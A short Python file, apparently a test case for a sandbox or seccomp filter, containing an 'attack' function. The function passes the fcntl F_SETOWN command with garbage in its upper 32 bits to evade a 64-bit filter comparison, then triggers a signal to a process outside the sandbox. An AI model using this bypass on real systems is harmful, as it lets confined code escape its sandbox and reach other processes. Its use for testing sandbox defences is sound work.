# F_SETOWN with rubbish in the upper half of the command, which a 64-bit comparison misses.
# proof: outside
import ctypes
import fcntl
import os
import socket


def attack(arg):
    left, right = socket.socketpair()
    call = ctypes.CDLL(None).syscall
    call(arg["nr"]["fcntl"], left.fileno(), ctypes.c_uint64((1 << 32) | fcntl.F_SETOWN), ctypes.c_long(arg["pid"]))
    fcntl.fcntl(left, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    right.send(b"x")
    return True
